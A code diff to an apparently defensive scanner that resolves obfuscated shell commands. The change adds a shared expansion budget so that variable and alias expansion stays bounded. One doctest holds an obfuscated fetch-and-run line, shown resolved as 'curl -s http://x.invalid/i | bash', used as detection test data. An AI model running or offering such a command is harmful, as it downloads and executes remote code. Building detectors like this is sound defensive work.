@@ -9,12 +9,12 @@ from __future__ import annotations
 
 import itertools
 import re
-from collections.abc import Iterator, Sequence
+from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import dataclass, field
 
 from metier.govern.scan.expansion import ALIASED, TOOLS, aliases, formatted, parameter, printed, written_out
 from metier.govern.scan.groups import Groups, Printed, inlined, is_telling, loop_value, said_in, start_file
-from metier.govern.scan.statement import Statement
+from metier.govern.scan.statement import MAX_LENGTH, Statement
 from metier.govern.scan.written import (
     WRITES,
     Files,
@@ -26,6 +26,8 @@ from metier.govern.scan.written import (
 )
 
 MAX_DEPTH = 4
+_MAX_TOLD = 1_000_000
+"""So many letters more than it has come of the names in a text, and of what is run within what is run."""
 _WORD_BREAK = frozenset(" \t\n;|&<>()")
 _PLAIN_WORD = re.compile(r"(?:[^ \t\n;|&<>()\\'\"$`]++|'[^']*+'|\"[^\"\\$`]*+\")++(?=[ \t\n;|&<>()]|\Z)")
 """A word in which nothing is expanded."""
@@ -74,6 +76,28 @@ _READS = frozenset(
 """What prints something that is worth taking, into the file of its group."""
 
 
+class _Known(dict[str, str]):
+    """What names stand for, and how many more letters may come of them, and of the texts that commands run."""
+
+    __slots__ = ("room",)
+
+    def __init__(self, given: Iterable[tuple[str, str]] = (), *, room: list[int]) -> None:
+        super().__init__(given)
+        self.room = room
+
+    def copy(self) -> _Known:
+        return _Known(self.items(), room=self.room)
+
+    def told(self, name: str, said: str) -> str:
+        """What a name stands for, or else what is said where it stands."""
+        value = self.get(name)
+        return said if value is None or not self.has_room(len(value)) else value
+
+    def has_room(self, num_letters: int) -> bool:
+        self.room[0] -= num_letters
+        return self.room[0] >= 0
+
+
 @dataclass(slots=True)
 class _Pipeline:
     line: int
@@ -98,13 +122,18 @@ def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool
     >>> [s.text for s in shell_statements('a=cu; b=rl; $a$b -s "http://x.invalid/i" \\\n | b""ash', "x")][-1]
     'curl -s http://x.invalid/i | bash'
     """
-    return _statements(text, path, first_line, is_live, {}, 0)
+    known = _Known(room=[_MAX_TOLD + 2 * len(text)])
+    found = _statements(text, path, first_line, is_live, known, 0)
+    if found and known.room[0] < 0:
+        # Too long to be read: whoever reads statements tells that.
+        found.append(found[-1]._replace(text="…" * (MAX_LENGTH + 1)))
+    return found
 
 
-def _statements(
-    text: str, path: str, first_line: int, is_live: bool, known: dict[str, str], depth: int
-) -> list[Statement]:
+def _statements(text: str, path: str, first_line: int, is_live: bool, known: _Known, depth: int) -> list[Statement]:
     statements: list[Statement] = []
+    if depth and not known.has_room(len(text)):
+        return statements
     scope = ""
     group: list[str] = []
     groups, files, num_named = Groups(), Files(), 0
@@ -130,7 +159,7 @@ def _statements(
             pipeline.writes.append(groups.sent_to)
         if depth < MAX_DEPTH:
             for offset, inner in pipeline.inner:
-                statements += _statements(inner, path, first_line + offset, is_live, dict(known), depth + 1)
+                statements += _statements(inner, path, first_line + offset, is_live, known.copy(), depth + 1)
             heredoc = pipeline.text_of_heredoc
             texts = texts_that_run(words, heredoc)
             if heredoc or (words and words[0] in ("printf", "echo")):
@@ -139,7 +168,7 @@ def _statements(
             for inner in texts:
                 at = heredoc.find(inner) if heredoc else -1
                 below = 1 + heredoc.count("\n", 0, at) if at >= 0 else 0
-                statements += _statements(inner, path, line + below, is_live, dict(known), depth + 1)
+                statements += _statements(inner, path, line + below, is_live, known.copy(), depth + 1)
             if closed or (groups.functions and not groups.functions.keys().isdisjoint(words)):
                 statements += _carried(groups, files, closed, pipeline, path, first_line, is_live, known, depth)
         if words and words[0] == "|":
@@ -151,7 +180,7 @@ def _statements(
                 groups.note((pipeline.line, words, pipeline.text_of_heredoc))
             statements.append(_statement(words, pipeline, path, line, scope, is_live, known))
     for line, said in files.programs([one.text for one in statements]) if files.texts else ():
-        statements += _statements(said, path, line, is_live, dict(known), depth + 1)
+        statements += _statements(said, path, line, is_live, known.copy(), depth + 1)
     return statements
 
 
@@ -163,9 +192,15 @@ def _called_alike(name: str, commands: Sequence[Sequence[str]]) -> dict[str, str
     return {f"alias {name}": " ".join(body), ALIASED: ""} if is_other and not any("$" in word for word in body) else {}
 
 
-def _rewrite(words: list[str], pipeline: _Pipeline, known: dict[str, str], *, is_within: bool) -> None:
+def _rewrite(words: list[str], pipeline: _Pipeline, known: _Known, *, is_within: bool) -> None:
     """Write a command out, and keep what it gives other names or values to."""
-    written_out(words, known)
+    if ALIASED in known:
+        num_letters = sum(map(len, words))
+        written_out(words, known)
+        if not known.has_room(max(0, sum(map(len, words)) - num_letters)):
+            del known[ALIASED]
+    else:
+        written_out(words, known)
     first = words[0]
     if first in ("alias", "hash", "ln", "cp"):
         known |= {f"alias {name}": tool for name, tool in aliases(words).items()} | {ALIASED: ""}
@@ -208,7 +243,7 @@ def _carried(
     path: str,
     first_line: int,
     is_live: bool,
-    known: dict[str, str],
+    known: _Known,
     depth: int,
 ) -> list[Statement]:
     """What functions do with what they are called with, and what a group prints into a file."""
@@ -216,8 +251,8 @@ def _carried(
     for number, words, heredoc in groups.called(pipeline.words):
         body = _Pipeline(line=number, words=words, text_of_heredoc=heredoc)
         for inner in texts_that_run(words, heredoc):
-            statements += _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
-        statements.append(_statement(words, body, path, first_line + number, "", is_live, dict(known)))
+            statements += _statements(inner, path, first_line + number, is_live, known.copy(), depth + 1)
+        statements.append(_statement(words, body, path, first_line + number, "", is_live, known.copy()))
     target = next(filter(is_telling, pipeline.writes), "")
     group = closed or [(pipeline.line, pipeline.words, "")]
     if not target:
@@ -225,7 +260,7 @@ def _carried(
         for number, words, _ in closed if file else ():
             if words and words[0] in _READS:
                 read = _Pipeline(line=number, words=list(words), writes=[file])
-                statements.append(_statement(read.words, read, path, first_line + number, "", is_live, dict(known)))
+                statements.append(_statement(read.words, read, path, first_line + number, "", is_live, known.copy()))
         for _, words, heredoc in said_in(group, groups.functions) if pipeline.writes else ():
             if words is not pipeline.words:
                 files.note(list(words), pipeline.writes, heredoc, first_line + pipeline.line)
@@ -235,13 +270,13 @@ def _carried(
             continue
         printed = _Pipeline(line=number, words=list(words), writes=[target], text_of_heredoc=heredoc)
         for inner in scripts_written(words, [target], heredoc):
-            statements += _statements(inner, path, first_line + number, is_live, dict(known), depth + 1)
+            statements += _statements(inner, path, first_line + number, is_live, known.copy(), depth + 1)
         statements.append(_statement(printed.words, printed, path, first_line + number, "", is_live, known))
     return statements
 
 
 def _statement(
-    words: list[str], pipeline: _Pipeline, path: str, line: int, scope: str, is_live: bool, known: dict[str, str]
+    words: list[str], pipeline: _Pipeline, path: str, line: int, scope: str, is_live: bool, known: _Known
 ) -> Statement:
     said = " ".join(words)
     assigns = list(pipeline.writes)
@@ -261,7 +296,7 @@ def _statement(
                     known.pop(assignment[1], None)
                 else:
                     before = known.get(assignment[1], "") if "+=" in word.split("=")[0] + "=" else ""
-                    known[assignment[1]] = before + value
+                    known[assignment[1]] = (before + value)[: MAX_LENGTH + 1]
         if (
             (
                 (word in WRITES and not (word == "-d" and "curl" in words))
@@ -314,7 +349,7 @@ def _statement(
     return Statement(path, line, said, scope, names, frozenset(uses), (), True, is_live, False, "shell")
 
 
-def _know_array(words: Sequence[str], known: dict[str, str]) -> None:
+def _know_array(words: Sequence[str], known: _Known) -> None:
     """Keep the elements of an array whose name is among the first words: each by its number or its key, all under the name."""
     start = next((place for place, word in enumerate(words[:4]) if word[-1:] == "=" and word[:-1].isidentifier()), None)
     if start is None:
@@ -331,7 +366,7 @@ def _may_name_file(said: str) -> bool:
     return "." in said or "/" in said or "$" in said or "~" in said or "\\" in said or "=@" in said or "=<" in said
 
 
-def _pipelines(text: str, known: dict[str, str]) -> Iterator[_Pipeline]:
+def _pipelines(text: str, known: _Known) -> Iterator[_Pipeline]:
     """Split at newlines, `;`, `&&`, `||` and `&`; join what a pipe or a backslash carries on."""
     place, line, length = 0, 0, len(text)
     current = _Pipeline(line=0)
@@ -452,7 +487,7 @@ def _take_heredocs(text: str, place: int, line: int, heredocs: list[tuple[str, _
     return min(place, len(text)), line
 
 
-def _word(text: str, place: int, line: int, current: _Pipeline, known: dict[str, str]) -> tuple[str, int, int]:
+def _word(text: str, place: int, line: int, current: _Pipeline, known: _Known) -> tuple[str, int, int]:
     """One word with its quotes removed; the text of substitutions stays in it and is read by itself too."""
     plain = _PLAIN_WORD.match(text, place)
     if plain:
@@ -508,7 +543,7 @@ def _word(text: str, place: int, line: int, current: _Pipeline, known: dict[str,
     return "".join(pieces), place, newlines
 
 
-def _plain_words(said: str, known: dict[str, str]) -> list[str]:
+def _plain_words(said: str, known: _Known) -> list[str]:
     """Words in which nothing but names is expanded, without their quotes; one that says nothing is none."""
     words: list[str] = []
     for word in _EACH.findall(said):
@@ -520,7 +555,7 @@ def _plain_words(said: str, known: dict[str, str]) -> list[str]:
     return words
 
 
-def _told(found: re.Match[str], known: dict[str, str]) -> str:
+def _told(found: re.Match[str], known: _Known) -> str:
     """What a text in quotes, or a name, stands for."""
     if found["single"] is not None:
         return found["single"]
@@ -529,9 +564,9 @@ def _told(found: re.Match[str], known: dict[str, str]) -> str:
     return said.replace("\x00", " ").replace("\n", " ; ") if is_text else said
 
 
-def _value(found: re.Match[str], known: dict[str, str]) -> str:
+def _value(found: re.Match[str], known: _Known) -> str:
     name = found[1] or found[2]
-    return "\x00" if name == "IFS" else known.get(name, found[0])
+    return "\x00" if name == "IFS" else known.told(name, found[0])
 
 
 def _bare(word: str) -> str:
@@ -548,14 +583,14 @@ def _unquoted(found: re.Match[str]) -> str:
     return found[1] if found[1] is not None else found[2].replace("\n", " ; ")
 
 
-def _expanded(text: str, place: int, known: dict[str, str]) -> tuple[str, int]:
+def _expanded(text: str, place: int, known: _Known) -> tuple[str, int]:
     found = _VARIABLE.match(text, place)
     if text.startswith("${", place) and (end := text.find("}", place)) >= 0:
         value = parameter(text[place + 2 : end], known)
         if value is not None and (
             value.rpartition("/")[2] in TOOLS or (found and "-" not in found[0] and found[1] in known)
         ):
-            return value, end + 1
+            return value if known.has_room(len(value)) else text[place : end + 1], end + 1
     if not found:
         if text.startswith("${", place):
             end = text.find("}", place)
@@ -568,30 +603,28 @@ def _expanded(text: str, place: int, known: dict[str, str]) -> tuple[str, int]:
     is_whole = found[2] is not None or found[0][len(name) + 2 :] in ("}", "[@]}", "[*]}")
     if not is_whole and (element := found[0][2:-1]).endswith("]"):
         every = known.get(name, found[0]) if "$" in element else found[0]
-        return known.get(element, every if len(every) < _MAX_EVERY else found[0]), found.end()
-    return known.get(name, found[0]) if is_whole else found[0], found.end()
+        return known.told(element, every if len(every) < _MAX_EVERY else found[0]), found.end()
+    return known.told(name, found[0]) if is_whole else found[0], found.end()
 
 
-def _substituted(inner: str, known: dict[str, str]) -> str:
+def _substituted(inner: str, known: _Known) -> str:
     """What a command prints where it is told by what it says, or else the command."""
     told = printed(inner) if len(inner) < _MAX_EVERY else None
     return told if told and told.rpartition("/")[2] in TOOLS else f"$( {_filled_in(inner, known)} )"
 
 
-def _filled_in(inner: str, known: dict[str, str]) -> str:
+def _filled_in(inner: str, known: _Known) -> str:
     """The text of a substitution, with the plain names in its addresses filled in."""
     said = " ".join(inner.split())
     if "." not in said or "$" not in said or not known:
         return said
     return _NAME_IN.sub(
-        lambda found: (
-            value if (value := known.get(found[1] or found[2], "")) and _PLAIN_VALUE.fullmatch(value) else found[0]
-        ),
+        lambda found: value if _PLAIN_VALUE.fullmatch(value := known.told(found[1] or found[2], "")) else found[0],
         said,
     )
 
 
-def _double_quoted(text: str, place: int, line: int, current: _Pipeline, known: dict[str, str]) -> tuple[str, int]:
+def _double_quoted(text: str, place: int, line: int, current: _Pipeline, known: _Known) -> tuple[str, int]:
     pieces: list[str] = []
     place += 1
     while place < len(text) and text[place] != '"':
